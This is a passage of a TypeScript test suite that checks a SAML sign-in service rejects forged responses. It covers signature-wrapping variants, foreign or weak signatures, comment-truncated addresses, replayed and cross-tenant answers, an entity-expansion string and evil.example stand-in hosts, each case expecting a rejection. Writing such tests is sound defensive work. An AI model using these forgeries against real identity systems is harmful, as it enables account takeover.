import { deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inOrg } from '@/lib/platform/db';
import { adoptEnv } from '@/lib/platform/env';
import { isAppError } from '@/lib/platform/errors';
import { createSecret } from '@/lib/platform/secret';
import { aClock } from '@/lib/testing/clock';
import { aTestDatabase } from '@/lib/testing/database';
import { anOrganisation, type TestOrganisation } from '@/lib/testing/organisation';
import {
  assertionOf,
  type Encrypting,
  encrypted,
  evil,
  type Parts,
  rebuilt,
  type Signing,
  signed,
  withoutSignature,
  wrappings,
} from '@/lib/testing/saml-forge';
import {
  aSamlProvider,
  type PostedForm,
  type SamlAccount,
  type SamlIdentityProvider,
} from '@/lib/testing/saml-provider';
import { findConnection } from './data/connections';
import type { Finished } from './mutations/conclude';
import { type Begun, beginSignIn } from './mutations/sign-in';
import { samlAddressesOf } from './saml/addresses';
import type { SamlSettings } from './schema';
import { aSamlConnection, bringSaml } from './testing';

const database = aTestDatabase();
const clock = aClock(Date.now());
let provider: SamlIdentityProvider;
/** A provider that no connection here knows. */
let foreign: SamlIdentityProvider;
let acme: TestOrganisation;
let rival: TestOrganisation;
/** Connections of Acme's: the one under attack, one beside it, and one whose provider may begin. */
let main: string;
let beside: string;
let portal: string;
/** Of another organisation, at the same provider. */
let rivals: string;

beforeAll(async () => {
  [provider, foreign] = await Promise.all([aSamlProvider(), aSamlProvider()]);
  adoptEnv({
    AUTH_SECRET: 'a secret of the test that is long enough',
    GAIT_TRUSTED_HOSTS: new URL(provider.entityId).host,
    GAIT_URL: 'http://localhost:3000',
  });
  acme = await anOrganisation({ clock });
  rival = await anOrganisation({ clock, name: 'Rival' });
  main = await aSamlConnection(acme, provider);
  [beside, portal] = [await anotherConnection('beside'), await anotherConnection('portal', true)];
  rivals = await aSamlConnection(rival, provider);
  await database.asOwner("UPDATE connection SET status = 'on'");
});
afterAll(() => Promise.all([provider.close(), foreign.close()]));

async function anotherConnection(name: string, allowIdpInitiated = false): Promise<string> {
  await database.asOwner('DELETE FROM email_domain WHERE org_id = $1', [acme.orgId]);
  return aSamlConnection(acme, provider, { name, allowIdpInitiated });
}

const ana = {
  nameId: 'ana-1',
  attributes: { email: 'ana@acme.example', name: 'Ana Silva', groups: ['payments-leads', 'everyone'] },
};

/** What the browser brings: where, and in which browser. */
type Brought = {
  org: TestOrganisation;
  connection: string;
  form: PostedForm;
  browser: string | null;
  minutesLater?: number;
};

/** One thing that is wrong; everything else is right. */
type Wrong = {
  /** Who the provider says it is, honestly signed. */
  account?: SamlAccount;
  signs?: 'assertion' | 'response' | 'both';
  xml?(right: string): string | Promise<string>;
  posted?(right: string): string;
  brings?(right: Brought): Brought | Promise<Brought>;
};

async function live({ orgId }: TestOrganisation, id: string) {
  const connection = await inOrg(orgId, (tx) => findConnection(tx, orgId, id));
  if (connection?.kind !== 'saml') throw new Error('The connection was just made.');
  return connection;
}

const begin = async (org: TestOrganisation, id: string): Promise<Begun> =>
  beginSignIn(await live(org, id), { purpose: 'sign-in' }, clock);

const bring = ({ org, connection, minutesLater = 0, ...more }: Brought): Promise<Finished> =>
  bringSaml({ ...org, clock: aClock(clock.now().getTime() + minutesLater * 60_000) }, connection, more);

const decoded = (base64: string) => Buffer.from(base64, 'base64').toString('utf8');
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');

async function attack({ account = ana, signs = 'assertion', xml, posted, brings }: Wrong): Promise<Finished> {
  provider.signsIn(account);
  provider.signs(signs);
  const { url, browser } = await begin(acme, main);
  const form = await provider.visit(url);
  if (xml) form.SAMLResponse = base64(await xml(decoded(form.SAMLResponse)));
  if (posted) form.SAMLResponse = posted(form.SAMLResponse);
  const right = { org: acme, connection: main, form, browser };
  return bring(brings ? await brings(right) : right);
}

const own = (): Signing => ({ key: provider.key, certificate: provider.certificate });

/** The provider itself says something else, and signs it. */
const says = (from: string | RegExp, to: string, signing: Partial<Signing> = {}): Wrong => ({
  xml: (right) => {
    const changed = withoutSignature(right).replace(from, to);
    if (changed === withoutSignature(right)) throw new Error(`${from} is not in the response.`);
    return signed(changed, { ...own(), ...signing });
  },
});
/** Somebody changes what was signed. */
const tampered = (from: string | RegExp, to: string, more: Omit<Wrong, 'xml'> = {}): Wrong => ({
  ...more,
  xml: (right) => {
    const changed = right.replace(from, to);
    if (changed === right) throw new Error(`${from} is not in the response.`);
    return changed;
  },
});
const signedBy = (signing: Partial<Signing>): Wrong => ({
  xml: (right) => signed(withoutSignature(right), { ...own(), ...signing }),
});
const moved = (change: (parts: Parts) => void, signs: Wrong['signs'] = 'assertion'): Wrong => ({
  signs,
  xml: (right) => rebuilt(right, change),
});
const account = (more: Partial<SamlAccount>): Wrong => ({ account: { ...ana, ...more } });
const attributes = (more: SamlAccount['attributes']): Wrong =>
  account({ attributes: { ...ana.attributes, ...more } });
const later = (minutes: number) => new Date(clock.now().getTime() + minutes * 60_000).toISOString();

async function ownCertificate(): Promise<string> {
  return (await live(acme, main)).settings.certificates[0] ?? '';
}
const sealedAs = (
  make: (right: string) => string | Promise<string>,
  how: Partial<Encrypting> = {},
): Wrong => ({
  xml: async (right) => {
    const sealed = await encrypted(await make(right), { certificate: await ownCertificate(), ...how });
    return right.replace(assertionOf(right), sealed);
  },
});
/** Posts something to the connection whose provider may begin. */
const atPortal = (make: () => PostedForm | Promise<PostedForm>): Wrong => ({
  brings: async () => ({ org: acme, connection: portal, form: await make(), browser: null }),
});
const portalForm = () => provider.initiates(samlAddressesOf(acme.orgId, portal));
const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
  '',
);

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const CM = 'urn:oasis:names:tc:SAML:2.0:cm:';
const confirmation = /<saml:SubjectConfirmation [\s\S]*<\/saml:SubjectConfirmation>/;

/** By what is wrong: the reason that the log gives, and how it is made. */
const cases: Record<string, [because: RegExp, wrong: () => Wrong]> = {
  // Signature wrapping
  'wrapping 1: the signed response inside the signature of another': [
    /does not sign/,
    () => moved(wrappings.XSW1, 'response'),
  ],
  'wrapping 2: the signed response beside its signature, in another': [
    /does not sign/,
    () => moved(wrappings.XSW2, 'response'),
  ],
  'wrapping 3: another assertion before the signed one': [/exactly one/, () => moved(wrappings.XSW3)],
  'wrapping 4: the signed assertion inside another': [/stands where none/, () => moved(wrappings.XSW4)],
  'wrapping 5: the signature moved to another, the signed one at the end': [
    /does not sign/,
    () => moved(wrappings.XSW5),
  ],
  'wrapping 6: the signed assertion inside the signature of another': [
    /does not sign/,
    () => moved(wrappings.XSW6),
  ],
  'wrapping 7: another assertion in the extensions': [/exactly one/, () => moved(wrappings.XSW7)],
  'wrapping 8: the signed assertion in an object of the signature': [/object/, () => moved(wrappings.XSW8)],
  'another assertion after the signed one': [
    /exactly one/,
    () => moved(({ response, assertion }) => void response.appendChild(evil(assertion))),
  ],
  'another assertion under the ID of the signed one': [
    /one ID/,
    () =>
      moved(({ response, assertion }) => {
        const forged = evil(assertion);
        forged.setAttribute('ID', assertion.getAttribute('ID') ?? '');
        response.insertBefore(forged, assertion);
      }),
  ],
  'an element under the ID of the signed one, spelt Id': [
    /one ID/,
    () =>
      moved(({ response, assertion }) => {
        response.firstChild &&
          (response.firstChild as Element).setAttribute('Id', assertion.getAttribute('ID') ?? '');
      }),
  ],
  'the signed assertion in the status, another in its place': [
    /stands where none/,
    () =>
      moved(({ response, assertion }) => {
        const status = Array.from(response.childNodes).find((node) => node.nodeName === 'samlp:Status');
        response.replaceChild(evil(assertion), assertion);
        status?.appendChild(assertion);
      }),
  ],
  'a response inside the response': [
    /exactly one/,
    () => moved(({ response }) => void response.appendChild(evil(response))),
  ],
  'the signed response as a part of another': [
    /stands where none/,
    () =>
      moved(({ document, response }) => {
        const outer = document.createElementNS(SAMLP, 'samlp:Response');
        document.replaceChild(outer, response);
        outer.appendChild(response);
      }, 'response'),
  ],
  'a signature that names the response from inside the assertion': [
    /does not sign/,
    () =>
      moved(({ response, signature }) => {
        const [reference] = Array.from(signature.getElementsByTagNameNS(DSIG, 'Reference'));
        reference?.setAttribute('URI', `#${response.getAttribute('ID')}`);
      }),
  ],

  // Signatures
  'nothing signed': [/nothing in it is signed/, () => ({ xml: withoutSignature })],
  'nothing signed, for somebody else': [
    /nothing in it is signed/,
    () => ({ xml: (right) => withoutSignature(right).replace('ana-1', 'olga') }),
  ],
  'a signature of another key that it brings along': [
    /[Ii]nvalid signature/,
    () => signedBy({ key: foreign.key, certificate: foreign.certificate }),
  ],
  "a signature of another key under the provider's certificate": [
    /[Ii]nvalid signature/,
    () => signedBy({ key: foreign.key }),
  ],
  'a key by its bare value': [
    /[Ii]nvalid signature/,
    () => ({
      xml: (right) =>
        signed(withoutSignature(right), { ...own(), key: foreign.key }).replace(
          /<X509Data>[\s\S]*<\/X509Data>/,
          '<KeyValue><RSAKeyValue><Modulus>AQAB</Modulus><Exponent>AQAB</Exponent></RSAKeyValue></KeyValue>',
        ),
    }),
  ],
  'an HMAC with the certificate as its key': [
    /signature algorithm/,
    () =>
      signedBy({
        key: provider.certificate,
        hmac: true,
        signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
      }),
  ],
  'an HMAC with SHA-256': [
    /signature algorithm/,
    () =>
      tampered(
        'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
        'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256',
      ),
  ],
  'a signature by RSA-SHA1': [
    /signature algorithm/,
    () => signedBy({ signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' }),
  ],
  'a digest by SHA-1': [
    /digest/,
    () => signedBy({ digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
  ],
  'a signature by MD5': [
    /signature algorithm/,
    () =>
      tampered(
        'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
        'http://www.w3.org/2001/04/xmldsig-more#rsa-md5',
      ),
  ],
  'no algorithm': [
    /signature algorithm/,
    () => tampered(/<SignatureMethod Algorithm="[^"]*"/, '<SignatureMethod'),
  ],
  'an empty signature': [
    /[Ii]nvalid signature/,
    () => tampered(/<SignatureValue>[^<]*</, '<SignatureValue><'),
  ],
  'a signature of another response': [
    /does not sign/,
    () => ({
      xml: async (right) => {
        const other = decoded((await provider.visit((await begin(acme, main)).url)).SAMLResponse);
        const [theirs = ''] = /<Signature [\s\S]*<\/Signature>/.exec(other) ?? [];
        return right.replace(/<Signature [\s\S]*<\/Signature>/, theirs);
      },
    }),
  ],
  'two signatures over one assertion': [
    /two signatures/,
    () =>
      moved(({ assertion, signature }) => void assertion.insertBefore(signature.cloneNode(true), signature)),
  ],
  'two references in a signature': [
    /more than one Reference/,
    () =>
      moved(({ signature }) => {
        const [reference] = Array.from(signature.getElementsByTagNameNS(DSIG, 'Reference'));
        if (reference) reference.parentNode?.appendChild(reference.cloneNode(true));
      }),
  ],
  'no reference in a signature': [/no Reference/, () => tampered(/<Reference [\s\S]*<\/Reference>/, '')],
  'a signature that says twice what it signs': [
    /more than one SignedInfo/,
    () => tampered(/<SignedInfo>[\s\S]*<\/SignedInfo>/, '$&$&'),
  ],
  'a second SignedInfo, hidden beside the first': [
    /twice what it signs/,
    () => tampered(/<KeyInfo>/, '<KeyInfo><SignedInfo/>'),
  ],
  'a reference to the whole document': [/does not sign/, () => tampered(/URI="#[^"]*"/, 'URI=""')],
  'a reference by XPointer': [
    /does not sign/,
    () => tampered(/URI="#([^"]*)"/, 'URI="#xpointer(id(&apos;$1&apos;))"'),
  ],
  'a reference to another host': [
    /does not sign/,
    () => tampered(/URI="#[^"]*"/, 'URI="https://evil.example/"'),
  ],
  'a digest with a comment in it': [/comment/, () => tampered('<DigestValue>', '<DigestValue><!--x-->')],
  'an XSLT transform': [
    /transforms/,
    () =>
      tampered(
        'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
        'http://www.w3.org/TR/1999/REC-xslt-19991116',
      ),
  ],
  'an XPath transform': [
    /transforms/,
    () =>
      tampered(
        'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
        'http://www.w3.org/TR/1999/REC-xpath-19991116',
      ),
  ],
  'a third transform': [
    /transforms/,
    () =>
      tampered(
        '</Transforms>',
        '<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/></Transforms>',
      ),
  ],
  'no transform': [/transforms/, () => tampered(/<Transforms>[\s\S]*<\/Transforms>/, '<Transforms/>')],
  'an unknown canonicalisation': [
    /canonicalisation/,
    () => tampered(/(<CanonicalizationMethod Algorithm=")[^"]*/, '$1urn:example:c14n'),
  ],
  'a canonicalisation that keeps comments': [
    /canonicalisation/,
    () => signedBy({ canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments' }),
  ],
  'a transform that keeps comments': [
    /transforms/,
    () =>
      signedBy({
        transforms: [
          'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
          'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
        ],
      }),
  ],
  'a Signature of another namespace': [
    /none of XML Signature/,
    () => tampered(`<Signature xmlns="${DSIG}"`, '<Signature xmlns="urn:example"'),
  ],
  'a bad signature on the response beside a good one on the assertion': [
    /[Ii]nvalid document signature/,
    () => tampered('IssueInstant="', 'Consent="urn:x" IssueInstant="', { signs: 'both' }),
  ],
  'a bad signature on the assertion inside a signed response': [
    /[Ii]nvalid signature/,
    () => ({
      xml: (right) => signed(right.replace('ana-1', 'olga'), { ...own(), of: 'Response' }),
    }),
  ],
  'another name': [/[Ii]nvalid signature/, () => tampered('>ana-1<', '>olga<')],
  'another address': [/[Ii]nvalid signature/, () => tampered('ana@acme.example', 'olga@acme.example')],
  'another group': [/[Ii]nvalid signature/, () => tampered('payments-leads', 'owners')],
  'one more attribute': [
    /[Ii]nvalid signature/,
    () => tampered('</saml:AttributeStatement>', '<saml:Attribute Name="x"/></saml:AttributeStatement>'),
  ],
  'another response around a signed one': [
    /[Ii]nvalid document signature/,
    () => tampered('>ana-1<', '>olga<', { signs: 'response' }),
  ],

  // For whom, from whom, in answer to what
  'another audience': [/Audience/, () => says(/(<saml:Audience>)[^<]*/, '$1https://evil.example')],
  'an audience that begins like ours': [/Audience/, () => says('</saml:Audience>', '/x</saml:Audience>')],
  'no audience': [
    /Audience/,
    () => says(/<saml:AudienceRestriction>[\s\S]*<\/saml:AudienceRestriction>/, ''),
  ],
  'two restrictions, of which one is not ours': [
    /Audience/,
    () =>
      says(
        '<saml:AudienceRestriction>',
        '<saml:AudienceRestriction><saml:Audience>https://evil.example</saml:Audience></saml:AudienceRestriction><saml:AudienceRestriction>',
      ),
  ],
  'another recipient': [/Recipient/, () => says(/Recipient="[^"]*"/, 'Recipient="https://evil.example/acs"')],
  'no recipient': [/Recipient/, () => says(/Recipient="[^"]*"/, '')],
  'another destination': [
    /Destination/,
    () => tampered(/Destination="[^"]*"/, 'Destination="https://evil.example/acs"'),
  ],
  'no destination on a signed response': [
    /Destination/,
    () => says(/Destination="[^"]*"/, '', { of: 'Response' }),
  ],
  'an assertion of another issuer': [
    /assertion is of another issuer/,
    () => says(/(<saml:Assertion[^>]*><saml:Issuer>)[^<]*/, '$1https://evil.example'),
  ],
  'an assertion of no issuer': [
    /assertion is of another issuer/,
    () => ({
      xml: (right) =>
        signed(
          withoutSignature(right).replace(/(<saml:Assertion[^>]*>)<saml:Issuer>[^<]*<\/saml:Issuer>/, '$1'),
          { ...own(), of: 'Response' },
        ),
    }),
  ],
  'a response of another issuer': [
    /response is of another issuer/,
    () => tampered(/(<saml:Issuer[^>]*>)[^<]*/, '$1https://evil.example'),
  ],
  'a foreign provider': [
    /another issuer/,
    () => ({
      brings: async (right) => {
        foreign.signsIn(ana);
        const { url, browser } = await begin(acme, main);
        return { ...right, browser, form: await foreign.visit(url) };
      },
    }),
  ],
  'a foreign provider under the name of ours': [
    /[Ii]nvalid signature/,
    () => ({
      brings: async (right) => {
        foreign.signsIn(ana);
        const { url, browser } = await begin(acme, main);
        const form = await foreign.visit(url);
        const named = withoutSignature(decoded(form.SAMLResponse)).replaceAll(
          foreign.entityId,
          provider.entityId,
        );
        const xml = signed(named, { key: foreign.key, certificate: foreign.certificate });
        return { ...right, browser, form: { ...form, SAMLResponse: base64(xml) } };
      },
    }),
  ],
  'the answer to another request, in the browser that began that': [
    /another request/,
    () => ({
      brings: async (right) => {
        const { url, browser } = await begin(acme, main);
        const { RelayState } = await provider.visit(url);
        return { ...right, browser, form: { ...right.form, RelayState } };
      },
    }),
  ],
  'an answer to no request': [
    /another request/,
    () => ({
      xml: (right) => signed(withoutSignature(right).replaceAll(/InResponseTo="[^"]*"/g, ''), own()),
    }),
  ],
  'a response to our request around an assertion to another': [
    /another request/,
    () => says(/(Recipient="[^"]*" InResponseTo=")[^"]*/, '$1_other'),
  ],
  'another browser': [
    /another browser/,
    () => ({ brings: async (right) => ({ ...right, browser: (await begin(acme, main)).browser }) }),
  ],
  'a browser that began nothing': [
    /another browser/,
    () => ({ brings: (right) => ({ ...right, browser: null }) }),
  ],
  'the relay state as the secret of the browser': [
    /another browser/,
    () => ({ brings: (right) => ({ ...right, browser: right.form.RelayState }) }),
  ],
  'an answer after twenty minutes': [
    /no attempt/,
    () => ({ brings: (right) => ({ ...right, minutesLater: 20 }) }),
  ],
  'an answer that came already': [
    /no attempt/,
    () => ({
      brings: async (right) => {
        await bring({ ...right, browser: null }).catch(() => undefined);
        return right;
      },
    }),
  ],
  'a second answer to an attempt, before the browser came for the first': [
    /no attempt/,
    () => ({
      brings: async (right) => {
        await bring({ ...right, browser: null }).catch(() => undefined);
        return { ...right, form: { ...right.form, SAMLResponse: base64('<x/>') } };
      },
    }),
  ],
  'a relay state that nobody was given': [
    /no attempt/,
    () => ({
      brings: (right) => ({
        ...right,
        form: { ...right.form, RelayState: createSecret('attempt', acme.orgId).secret },
      }),
    }),
  ],
  'an answer that is brought to another connection': [
    /no attempt/,
    () => ({ brings: (right) => ({ ...right, connection: beside }) }),
  ],
  'an answer that is brought to another organisation': [
    /no attempt/,
    () => ({ brings: (right) => ({ ...right, org: rival, connection: rivals }) }),
  ],
  'the answer to another connection of the same provider': [
    /Destination/,
    () => ({
      brings: async (right) => {
        const other = await provider.visit((await begin(acme, beside)).url);
        return { ...right, form: { ...right.form, SAMLResponse: other.SAMLResponse } };
      },
    }),
  ],
  "the answer to another tenant's connection of the same provider": [
    /Destination/,
    () => ({
      brings: async (right) => {
        const other = await provider.visit((await begin(rival, rivals)).url);
        return { ...right, form: { ...right.form, SAMLResponse: other.SAMLResponse } };
      },
    }),
  ],
  "the answer to another tenant's connection, with its relay state": [
    /no attempt/,
    () => ({
      brings: async (right) => {
        const other = await begin(rival, rivals);
        return { ...right, browser: other.browser, form: await provider.visit(other.url) };
      },
    }),
  ],

  "the answer to another tenant's connection, sent to ours": [
    /Recipient|Audience/,
    () => ({
      brings: async (right) => {
        const other = await provider.visit((await begin(rival, rivals)).url);
        const [, ours = ''] = /InResponseTo="([^"]*)"/.exec(decoded(right.form.SAMLResponse)) ?? [];
        const redirected = decoded(other.SAMLResponse)
          .replace(/Destination="[^"]*"/, `Destination="${right.form.action}"`)
          .replace(/InResponseTo="[^"]*"/, `InResponseTo="${ours}"`);
        return { ...right, form: { ...right.form, SAMLResponse: base64(redirected) } };
      },
    }),
  ],

  // The provider's portal
  'an answer that nobody asked for, where the provider may not begin': [
    /may not begin/,
    () => ({
      brings: async (right) => ({
        ...right,
        browser: null,
        form: await provider.initiates(samlAddressesOf(acme.orgId, main)),
      }),
    }),
  ],
  'an answer to a request of ours, without its relay state': [
    /may not begin/,
    () => ({ brings: (right) => ({ ...right, form: { ...right.form, RelayState: '' } }) }),
  ],
  'an answer to a request, as if the provider had begun': [
    /answers a request/,
    () =>
      atPortal(async () => ({
        ...(await provider.visit((await begin(acme, portal)).url)),
        RelayState: '/elsewhere',
      })),
  ],
  "another connection's portal answer": [
    /Destination/,
    () => atPortal(() => provider.initiates(samlAddressesOf(acme.orgId, beside))),
  ],
  "another tenant's portal answer": [
    /Destination/,
    () => atPortal(() => provider.initiates(samlAddressesOf(rival.orgId, rivals))),
  ],
  'a portal answer to an attempt': [
    /another request/,
    () => ({
      brings: async (right) => ({
        ...right,
        form: {
          ...(await provider.initiates(samlAddressesOf(acme.orgId, main))),
          RelayState: right.form.RelayState,
        },
      }),
    }),
  ],
  'a portal answer that is not signed': [
    /nothing in it is signed/,
    () =>
      atPortal(async () => {
        const form = await portalForm();
        return { ...form, SAMLResponse: base64(withoutSignature(decoded(form.SAMLResponse))) };
      }),
  ],

  // Times
  'conditions that have expired': [
    /has expired/,
    () => says(/(<saml:Conditions NotBefore="[^"]*" NotOnOrAfter=")[^"]*/, `$1${later(-5)}`),
  ],
  'conditions that hold later': [
    /not valid yet/,
    () => says(/(<saml:Conditions NotBefore=")[^"]*/, `$1${later(5)}`),
  ],
  'a confirmation that has expired': [
    /has expired/,
    () => says(/(<saml:SubjectConfirmationData NotOnOrAfter=")[^"]*/, `$1${later(-5)}`),
  ],
  'a confirmation that never expires': [
    /NotOnOrAfter/,
    () => says(/(<saml:SubjectConfirmationData )NotOnOrAfter="[^"]*"/, '$1'),
  ],
  'a confirmation that holds later': [
    /not valid yet/,
    () => says('<saml:SubjectConfirmationData ', `<saml:SubjectConfirmationData NotBefore="${later(5)}" `),
  ],
  'an assertion of tomorrow': [
    /IssueInstant/,
    () => says(/(<saml:Assertion[^>]*IssueInstant=")[^"]*/, `$1${later(24 * 60)}`),
  ],
  'a session that has ended': [
    /SessionNotOnOrAfter/,
    () => says('<saml:AuthnStatement ', `<saml:AuthnStatement SessionNotOnOrAfter="${later(-5)}" `),
  ],
  'a time that is none': [
    /no proper NotOnOrAfter/,
    () => says(/(<saml:Conditions NotBefore="[^"]*" NotOnOrAfter=")[^"]*/, '$12099'),
  ],

  // What it says
  'no conditions': [/no conditions/, () => says(/<saml:Conditions[\s\S]*<\/saml:Conditions>/, '')],
  'conditions twice': [
    /multiple conditions/,
    () => says(/<saml:Conditions[\s\S]*<\/saml:Conditions>/, '$&$&'),
  ],
  'a condition that is not understood': [
    /not understood/,
    () => says('<saml:AudienceRestriction>', '<saml:Condition/><saml:AudienceRestriction>'),
  ],
  'an expiry in a namespace of its own': [
    /NotOnOrAfter/,
    () => says(/NotOnOrAfter=("[^"]*" Recipient)/, 'xmlns:e="urn:e" e:NotOnOrAfter=$1'),
  ],
  'no statement that somebody signed in': [
    /somebody signed in/,
    () => says(/<saml:AuthnStatement[\s\S]*<\/saml:AuthnStatement>/, ''),
  ],
  'no subject': [/about nobody/, () => says(/<saml:Subject>[\s\S]*<\/saml:Subject>/, '')],
  'two subjects': [/more than one Subject/, () => says(/<saml:Subject>[\s\S]*<\/saml:Subject>/, '$&$&')],
  'two names': [
    /more than one NameID/,
    () => says(/<saml:NameID[\s\S]*<\/saml:NameID>/, '$&<saml:NameID>olga</saml:NameID>'),
  ],
  'no name': [/nobody is named/, () => says(/<saml:NameID[\s\S]*<\/saml:NameID>/, '')],
  'an empty name': [/nobody is named/, () => says('>ana-1<', '><')],
  'a blank name': [/nobody is named/, () => says('>ana-1<', '> \n <')],
  'a name with a line break': [/nobody is named/, () => says('>ana-1<', '>ana-1&#10;olga<')],
  'a name without end': [/nobody is named/, () => says('>ana-1<', `>${'x'.repeat(5_000)}<`)],
  'a name that holds an element': [/nobody is named/, () => says('>ana-1<', '>olga<saml:x/>-1<')],
  'a transient name': [
    /transient/,
    () => account({ format: 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient' }),
  ],
  'a name that is encrypted by itself': [
    /encrypted by itself/,
    () => says(/<saml:NameID[\s\S]*<\/saml:NameID>/, '<saml:EncryptedID/>'),
  ],
  'no confirmation of the subject': [/no SubjectConfirmation/, () => says(confirmation, '')],
  'a holder of a key': [/not bearer/, () => says(`${CM}bearer`, `${CM}holder-of-key`)],
  'somebody whom the sender vouches for': [/not bearer/, () => says(`${CM}bearer`, `${CM}sender-vouches`)],
  'a confirmation without data': [/no data/, () => says(/<saml:SubjectConfirmationData[^>]*\/>/, '')],
  'an assertion of SAML 1.1': [
    /SAML 2\.0/,
    () => says(/(<saml:Assertion[^>]*)Version="2.0"/, '$1Version="1.1"'),
  ],
  'a response of SAML 1.1': [/SAML 2\.0/, () => tampered(/Version="2.0"/, 'Version="1.1"')],
  'an assertion without ID': [/does not sign/, () => tampered(/(<saml:Assertion[^>]*) ID="[^"]*"/, '$1')],
  'no status': [/status none/, () => tampered(/<samlp:Status>[\s\S]*<\/samlp:Status>/, '')],
  'a failure': [/Responder/, () => tampered('status:Success', 'status:Responder')],
  'an unknown status': [
    /status urn:x/,
    () => tampered('urn:oasis:names:tc:SAML:2.0:status:Success', 'urn:x'),
  ],
  'a failure beside a success': [
    /more than one StatusCode/,
    () => tampered('<samlp:StatusCode ', '<samlp:StatusCode Value="urn:x"/><samlp:StatusCode '),
  ],

  // Names and addresses
  'a comment in the name': [/comment/, () => says('>ana-1<', '>olga<!---->ana-1<')],
  'a comment that cuts an address short': [
    /comment/,
    () => says('ana@acme.example', 'user@acme.example<!-- -->.evil.example'),
  ],
  'a comment that somebody adds afterwards': [
    /comment/,
    () => tampered('ana@acme.example', 'ana@acme.example<!---->'),
  ],
  'a processing instruction that cuts an address short': [
    /processing instruction/,
    () => tampered('ana@acme.example', 'ana@acme.example<?x ?>.evil.example'),
  ],
  'an address of another domain': [/not of a domain/, () => attributes({ email: 'ana@evil.example' })],
  'an address of a domain below': [/not of a domain/, () => attributes({ email: 'ana@x.acme.example' })],
  'an address with two ats': [/none was sent/, () => attributes({ email: 'ana@evil.example@acme.example' })],
  'two addresses': [/none was sent/, () => attributes({ email: ['ana@acme.example', 'olga@acme.example'] })],
  'an address in two attributes of one name': [
    /none was sent/,
    () =>
      says(
        '<saml:Attribute Name="email"',
        '<saml:Attribute Name="email"><saml:AttributeValue>olga@acme.example</saml:AttributeValue></saml:Attribute><saml:Attribute Name="email"',
      ),
  ],
  'no address': [/none was sent/, () => account({ attributes: { name: 'Ana' } })],
  'an address that holds an element': [
    /none was sent/,
    () => says('ana@acme.example', 'ana@acme.example<saml:x/>'),
  ],

  // One assertion
  'no assertion': [/exactly one/, () => ({ xml: (right) => right.replace(assertionOf(right), '') })],
  'two signed assertions': [
    /exactly one/,
    () => ({
      xml: async (right) => {
        const other = decoded((await provider.visit((await begin(acme, main)).url)).SAMLResponse);
        return right.replace('</samlp:Response>', `${assertionOf(other)}</samlp:Response>`);
      },
    }),
  ],
  'an assertion by itself': [/no SAML response/, () => ({ xml: assertionOf })],
  'an assertion in a namespace of its own': [
    /exactly one/,
    () => tampered(`<saml:Assertion xmlns:saml="${SAML}"`, '<saml:Assertion xmlns:saml="urn:example"'),
  ],
  'an assertion whose prefix means something else inside': [
    /[Ii]nvalid signature/,
    () => tampered('<saml:Subject>', '<saml:Subject xmlns:saml="urn:example">'),
  ],
  'an assertion in an envelope of another name': [
    /no SAML response/,
    () => tampered(/samlp:Response/g, 'samlp:ArtifactResponse'),
  ],
  'a response of another namespace': [
    /no SAML response/,
    () => tampered(`xmlns:samlp="${SAMLP}"`, 'xmlns:samlp="urn:x"'),
  ],
  'a logout response': [/no SAML response/, () => tampered(/samlp:Response/g, 'samlp:LogoutResponse')],

  // Encryption
  'garbage in place of what is encrypted': [
    /holds no data/,
    () => ({
      xml: (right) =>
        right.replace(
          assertionOf(right),
          `<saml:EncryptedAssertion xmlns:saml="${SAML}">AAAA</saml:EncryptedAssertion>`,
        ),
    }),
  ],
  'a cipher text that was changed': [
    /not encrypted for any/,
    () => ({
      xml: async (right) => {
        const sealed = await encrypted(assertionOf(right), { certificate: await ownCertificate() });
        return right.replace(
          assertionOf(right),
          sealed.replace(
            /(CipherValue>)[^<]{8}(?=[^<]*<\/[^>]*CipherValue>\s*<\/[^>]*CipherData>\s*<\/xenc:EncryptedData>)/,
            '$1AAAAAAAA',
          ),
        );
      },
    }),
  ],
  'an assertion that is encrypted for somebody else': [
    /not encrypted for any/,
    () => sealedAs(assertionOf, { certificate: foreign.certificate }),
  ],
  'an encrypted assertion that is not signed': [
    /nothing in it is signed/,
    () => sealedAs((right) => assertionOf(withoutSignature(right))),
  ],
  'an encrypted assertion that somebody else signed': [
    /[Ii]nvalid signature/,
    () =>
      sealedAs((right) =>
        assertionOf(signed(withoutSignature(right), { key: foreign.key, certificate: foreign.certificate })),
      ),
  ],
  'an encrypted assertion signed by RSA-SHA1': [
    /signature algorithm/,
    () =>
      sealedAs((right) =>
        assertionOf(
          signed(withoutSignature(right), {
            ...own(),
            signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
          }),
        ),
      ),
  ],
  'two encrypted assertions in one': [
    /well-formed/,
    () => sealedAs((right) => `${assertionOf(right)}${assertionOf(right).replace(/ ID="/, ' ID="x')}`),
  ],
  'an encrypted assertion inside another': [
    /exactly one/,
    () =>
      sealedAs((right) =>
        rebuilt(right, wrappings.XSW4)
          .replace(/^[\s\S]*?(<saml:Assertion)/, '$1')
          .replace('</samlp:Response>', ''),
      ),
  ],
  'an encrypted document type': [
    /document type/,
    () => sealedAs((right) => `<!DOCTYPE x [<!ENTITY e "olga">]>${assertionOf(right)}`),
  ],
  'a key that is encrypted by RSA 1.5': [
    /key encryption/,
    () => sealedAs(assertionOf, { keyCipher: 'http://www.w3.org/2001/04/xmlenc#rsa-1_5' }),
  ],
  'triple DES': [
    /cipher/,
